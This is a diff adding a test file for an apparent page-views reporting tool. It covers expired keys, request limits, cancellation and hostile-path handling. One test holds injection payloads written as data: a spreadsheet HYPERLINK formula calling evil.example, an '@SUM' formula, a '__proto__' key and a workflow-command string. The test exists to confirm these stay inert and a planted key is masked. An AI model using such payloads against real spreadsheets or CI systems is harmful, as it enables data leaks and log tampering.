@@ -1,0 +1,115 @@
+import { writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { expect, test } from 'vitest'
+import { delay } from '../emulator/faults.ts'
+import { documentedLimits } from '../emulator/rate-limit.ts'
+import { defaultKey } from '../emulator/server.ts'
+import { parseCsv } from '../unit/page-views/parse-csv.ts'
+import { hostilePaths } from '../unit/page-views/views.ts'
+import { collect, expectHarmless, foreign, parseMarkdown } from '../unit/render/tree-oracle.ts'
+import { pagesOn, reporting } from './page-views.ts'
+
+test('401: the text says that keys expire, since a weekly report breaks once a quarter that way', () =>
+  reporting(
+    async ({ emulator, report }) => {
+      const run = await report()
+      expect(run.exitCode).toBe(1)
+      expect(run.outputs).toMatchObject({ outcome: 'error', reason: 'unauthorized', operation: 'page-views' })
+      for (const text of [run.annotations[0]?.message, run.summary]) expect(text).toContain('expired (after 90 days')
+      expect(run.summary).toContain('key was refused')
+      expect(emulator.journal.length).toBeLessThanOrEqual(2)
+    },
+    { keys: [{ ...defaultKey, expiresAt: '2026-11-21T11:59:59Z' }] },
+  ))
+
+test(
+  'a report ends at the default of `max-requests`, which stays below what the service allows in an hour',
+  { tags: ['long'] },
+  () =>
+    reporting(
+      async ({ emulator, report }) => {
+        const run = await report()
+        expect(emulator.journal.filter((entry) => entry.status === 429)).toEqual([])
+        expect(emulator.journal).toHaveLength(90)
+        expect(run.outputs).toMatchObject({ outcome: 'reported', truncated: 'true' })
+      },
+      { limits: documentedLimits, pageViews: [...pagesOn('2026-11-20', 15_000), ...pagesOn('2026-11-12', 15_000)] },
+    ),
+)
+
+test('H120: a signal in the middle of the reading ends it: no half file, a defined end', () =>
+  reporting(
+    async ({ emulator, report }) => {
+      emulator.fault({ times: 1000 }, delay(100))
+      const middle = new AbortController()
+      emulator.distortPageViews((query, read) => {
+        if (query.offset >= 1000) middle.abort()
+        return read(query)
+      })
+      const run = await report(
+        { export: 'new/views.csv,views.csv' },
+        {
+          interruption: { kind: 'cancel', when: middle.signal },
+          prepare: ({ workspace }) => writeFileSync(join(workspace, 'views.csv'), 'of last week'),
+        },
+      )
+      expect([run.isInterrupted, run.exitCode, run.signalsSent]).toEqual([true, 1, ['SIGINT']])
+      expect(run.outputs).toMatchObject({
+        outcome: 'cancelled',
+        operation: 'page-views',
+        'views-total': '',
+        'export-files': '',
+        alerts: '',
+        'summary-line': 'The workflow was cancelled before the report was finished; no file is half written.',
+      })
+      expect(run.workspaceFiles).toEqual({})
+      expect(run.summary).toContain('🛑 The workflow was cancelled')
+      expect(emulator.journal.length).toBeLessThan(30)
+    },
+    { pageViews: pagesOn('2026-11-20', 5000) },
+  ))
+
+// The canary of the tree oracle stands in every path: found outside code, the path got out.
+const paths = [
+  ...hostilePaths.map(([, path]) => `/${foreign(path)}`.toWellFormed().slice(0, 2_000)),
+  ...['=HYPERLINK("https://evil.example?Qzx","x")', '@SUM(Qzx)', '__proto__', 'Qzx::error::evil'],
+]
+// The invariants look for every form of the key in every sink; here only that there was something to find.
+const key = 'admin_emulator_key_0123456789'
+const withKey = [key, Buffer.from(key).toString('base64')].map((form) => `/found/${form}`)
+const shown = [...paths, '/found/***', '/found/***k='].toSorted()
+
+test('H105: hostile paths stay data in summary, outputs and files, and the key in one is not shown', () =>
+  reporting(
+    async ({ report }) => {
+      const siteUrl = 'https://docs.example.com/en/'
+      const run = await report({ top: '100', 'site-url': siteUrl, export: 'v.csv,v.json,v.ndjson' })
+      expect(run.exitCode).toBe(0)
+      const links = collect(parseMarkdown(run.summary)).flatMap((node) => (node.type === 'link' ? [node.url] : []))
+      expect(links).toContain('https://docs.example.com/en/Qzx%40org/team%20%23123%20GH-1%20Fixes%20%231Qzx')
+      expectHarmless(run.summary, /^https:\/\/docs\.example\.com\/en\/[!-~]*$/)
+
+      const json = JSON.parse(run.workspaceFiles['v.json'] ?? '')
+      const lines = (run.workspaceFiles['v.ndjson'] ?? '').trimEnd().split('\n')
+      const [, ...records] = parseCsv(run.workspaceFiles['v.csv'] ?? '')
+      const cells = records.map(([path = '']) => path)
+      for (const found of [
+        JSON.parse(run.outputs['top-pages'] ?? '').map((page: { path: string }) => page.path),
+        json.pages.map((page: { path: string }) => page.path),
+        lines.map((line) => JSON.parse(line).path),
+        cells.map((cell) => cell.replace(/^'(?=[=@])/, '')),
+      ]) {
+        expect(found.toSorted()).toEqual(shown)
+      }
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
+      expect(run.outputs).toMatchObject({ outcome: 'reported', pages: String(shown.length), truncated: 'false' })
+      expect(run.outputs['summary-line']).not.toContain('Qzx')
+      expect(run.log.join('\n')).not.toContain('Qzx')
+    },
+    {
+      pageViews: [...paths, ...withKey].flatMap((path, index) => [
+        { date: '2026-11-20', path, human: 100 + index, ai: 50 },
+        { date: '2026-11-10', path, human: 100 + (index % 2) * 90, ai: 20 },
+      ]),
+    },
+  ))
